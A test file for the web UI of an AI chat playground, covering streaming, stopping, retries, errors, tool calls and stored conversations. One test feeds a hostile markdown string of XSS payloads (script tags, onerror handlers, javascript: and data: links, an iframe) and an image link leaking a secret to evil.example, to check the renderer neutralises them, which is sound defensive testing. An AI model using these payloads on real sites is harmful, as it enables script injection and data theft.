import { describe, expect, it } from 'vitest'
import { findViolations } from '../harness/axe.ts'
import { chooseInMenu } from '../harness/people.ts'
import type { Playground } from '../harness/start-playground.ts'

export function playgroundAnswers(playground: Playground): void {
  const { page, device } = playground

  describe('a response', () => {
    it('appears as it streams, or all at once, and shows its timing and usage', async () => {
      await playground.open()
      const rest = Promise.withResolvers<void>()
      device.plan = { text: ['One ', 'two ', 'three'], stall: { at: 2, until: rest.promise } }
      await playground.say('Count')
      const answer = playground.answers.last()
      await answer.getByText('One two').waitFor()
      expect(await answer.getAttribute('aria-busy')).toBe('true')
      rest.resolve()
      await answer.getByText('One two three').waitFor()
      await answer.getByText('Complete').waitFor()
      const facts = await answer.locator('dt').allInnerTexts()
      expect(facts).toStrictEqual(['Time to first token', 'Speed', 'Total', 'Tokens'])
      await answer.getByText('1 in, 3 out').waitFor()
      await page.getByLabel('Stream the response').uncheck()
      const called = page.waitForRequest('**/openai/v1/chat/completions')
      const whole = await playground.ask({ text: ['All ', 'of it'] })
      expect((await called).postDataJSON()).not.toHaveProperty('stream')
      await whole.getByText('All of it').waitFor()
      expect(await whole.locator('dt').allInnerTexts()).not.toContain('Time to first token')
    })

    it('is stopped by a button or Escape, also on the device, and keeps its text', async () => {
      await playground.open()
      for (const stop of [
        async () => page.getByRole('button', { name: 'Stop' }).click(),
        async () => page.keyboard.press('Escape'),
      ]) {
        device.plan = { text: ['Half ', 'of it'], stall: { at: 1, until: new Promise(() => {}) } }
        await playground.say('Begin')
        const answer = playground.answers.last()
        await answer.getByText('Half').waitFor()
        await stop()
        await answer.getByText('Stopped.').waitFor()
        const job = device.jobs.at(-1)!
        await device.until('the job is cancelled', () => job.state === 'cancelled')
      }
      await playground.ask({ text: 'More' }, 'Go on')
      expect(playground.lastMessages).toStrictEqual(['Begin', 'Half ', 'Begin', 'Half ', 'Go on'])
    })

    it('is regenerated with the current settings, and replaced when you edit the message before it', async () => {
      await playground.open()
      await playground.ask({ text: 'First try' })
      await page.getByLabel('Temperature').fill('0')
      device.plan = { text: 'Second try' }
      await page.getByRole('button', { name: 'Retry' }).click()
      await playground.answers.getByText('Second try').waitFor()
      expect(await playground.answers.count()).toBe(1)
      expect(playground.lastRequest).toMatchObject({ temperature: 0, messages: [{ content: 'Hi' }] })
      await playground.ask({ text: 'Two' }, 'Second')
      await page.getByRole('button', { name: 'Edit message' }).last().click()
      await page.getByLabel('Message', { exact: true }).fill('Other')
      device.plan = { text: 'Three' }
      await page.getByRole('button', { name: 'Send again' }).click()
      await playground.answers.getByText('Three').waitFor()
      expect(playground.lastMessages).toStrictEqual(['Hi', 'Second try', 'Other'])
    })

    it('keeps its text when the device fails, and shows the message, status, code and param of errors', async () => {
      await playground.open()
      device.plan = { text: ['Half an ', 'answer'], failure: { at: 1, message: 'Out of memory' } }
      await playground.say('Hi')
      const answer = playground.answers.last()
      await answer.getByText('Half an').waitFor()
      await answer.getByRole('alert').getByText('server_error').waitFor()
      expect(await findViolations(page)).toStrictEqual([])
      await playground.ask({ text: 'Whole' }, 'Again')
      expect(playground.lastMessages).toStrictEqual(['Hi', 'Again'])
      await playground.model.selectOption('plain')
      await playground.openSettings('Advanced sampling')
      await page.getByLabel('Choices (n)').fill('2')
      await playground.say('Hi')
      const problem = playground.answers.last().getByRole('alert')
      await problem.getByText(/No device that serves this model supports 'n'/).waitFor()
      expect(await problem.locator('code').allInnerTexts()).toStrictEqual(['400', 'unsupported_by_node', 'n'])
    })

    it('shows tool calls, and takes the results you enter', async () => {
      await playground.open()
      await playground.openSettings('Tools')
      await page.getByRole('button', { name: 'Use sample' }).click()
      const answer = await playground.ask({ calls: 'first-tool' }, 'Weather in Oslo?')
      await answer.getByText('"city": "Oslo"').waitFor()
      expect(await findViolations(page)).toStrictEqual([])
      await page.getByLabel('Result of get_weather').fill('{"celsius": 21}')
      device.plan = { text: 'It is warm.' }
      await page.getByRole('button', { name: 'Send results' }).click()
      await playground.answers.last().getByText('It is warm.').waitFor()
      expect(playground.lastRequest.messages.slice(1)).toMatchObject([
        { role: 'assistant', toolCalls: [{ name: 'get_weather', arguments: '{"city":"Oslo"}' }] },
        { role: 'tool', content: '{"celsius": 21}', toolCallId: 'call_000000000000000000000001' },
      ])
    })
  })

  const HOSTILE = `# Title <b>bold?</b>

<script>document.title = 'run'</script><img src=x onerror="document.title='run'">

![alt text](https://evil.example/leak?secret=1) ![](/api/v1/me)

[friendly](https://evil.example/) [run](javascript:alert(1)) [data](data:text/html,<script>1</script>) <https://evil.example/auto>

<iframe src="https://evil.example"></iframe> \u202Eevil\u202C \u0007 \u200B

\`\`\`html
<script>code()</script>
\`\`\`

| table |
|---|
| ![x](https://evil.example/cell) |

- [x] <u>done</u>

#### Far below

A note[^1].

[^1]: The text of the note.
`

  describe('model output', () => {
    it('runs nothing, loads nothing and opens nothing, and its code is copied verbatim', async () => {
      await playground.open()
      const answer = await playground.ask({ text: HOSTILE })
      await answer.getByRole('heading', { name: 'Title <b>bold?</b>' }).waitFor()
      await answer.getByRole('heading', { name: 'Far below' }).waitFor()
      expect(await answer.locator('script, img, iframe, a, u, b').count()).toBe(0)
      await answer.getByText('Image: alt text (https://evil.example/leak?secret=1)').waitFor()
      expect(await answer.getByRole('button', { name: 'run' }).count()).toBe(0)
      await answer.getByRole('button', { name: 'friendly' }).click()
      await page.getByRole('dialog').getByText('https://evil.example/').waitFor()
      await page.keyboard.press('Escape')
      await expect.poll(async () => page.title()).toBe('Playground · Hearth')
      expect(await findViolations(page)).toStrictEqual([])
      await answer.getByRole('button', { name: 'Copy code' }).click()
      await expect.poll(async () => page.evaluate('navigator.clipboard.readText()')).toBe('<script>code()</script>')
      await page.getByRole('button', { name: 'Plain text' }).click()
      await answer.getByText('<script>document.title').waitFor()
    })
  })

  describe('conversations', () => {
    it('are listed under their first question, go on in the background, and stay in this browser until all are deleted', async () => {
      await playground.open()
      const rest = Promise.withResolvers<void>()
      device.plan = { text: ['Slowly ', 'done'], stall: { at: 1, until: rest.promise } }
      await playground.say('First topic')
      await playground.answers.getByText('Slowly').waitFor()
      await page.getByRole('button', { name: 'New conversation' }).click()
      await page.getByText('Send a message to start').waitFor()
      await playground.ask({ text: 'Other' }, 'Second topic')
      rest.resolve()
      await page.getByRole('button', { name: /^Conversations/ }).click()
      const list = page.getByRole('dialog', { name: 'Conversations' })
      await list.getByRole('button', { name: /^First topic\s*1 message/ }).waitFor()
      expect(await findViolations(page)).toStrictEqual([])
      await list.getByRole('button', { name: /^First topic/ }).click()
      await playground.answers.getByText('Slowly done').waitFor()
      expect(await playground.answers.getByText('Other').count()).toBe(0)
      const kept = await page.evaluate('JSON.stringify([localStorage, sessionStorage, location.href])')
      expect(kept).not.toContain('topic')
      await expect
        .poll(async () => playground.inBrowser())
        .toMatch(/Slowly done.*Second topic|Second topic.*Slowly done/s)
      await page.reload()
      await playground.answers.getByText('Slowly done').waitFor()
      await page.getByRole('button', { name: /^Conversations/ }).click()
      await list.getByRole('button', { name: /^Second topic/ }).click()
      await playground.answers.getByText('Other').waitFor()
      await page.getByRole('button', { name: /^Conversations/ }).click()
      const download = page.waitForEvent('download')
      await chooseInMenu(page, 'Actions for Second topic', 'Export as Markdown')
      expect((await download).suggestedFilename()).toBe('Second-topic.md')
      await list.getByRole('button', { name: 'Delete all' }).click()
      const question = page.getByRole('dialog', { name: 'Delete all conversations and presets?' })
      expect(await findViolations(page)).toStrictEqual([])
      await question.getByRole('button', { name: 'Delete all' }).click()
      await list.getByText('Second topic').waitFor({ state: 'detached' })
      await expect.poll(async () => playground.inBrowser()).toBe('[]')
      await page.reload()
      await page.getByText('Send a message to start').waitFor()
    })
  })
}
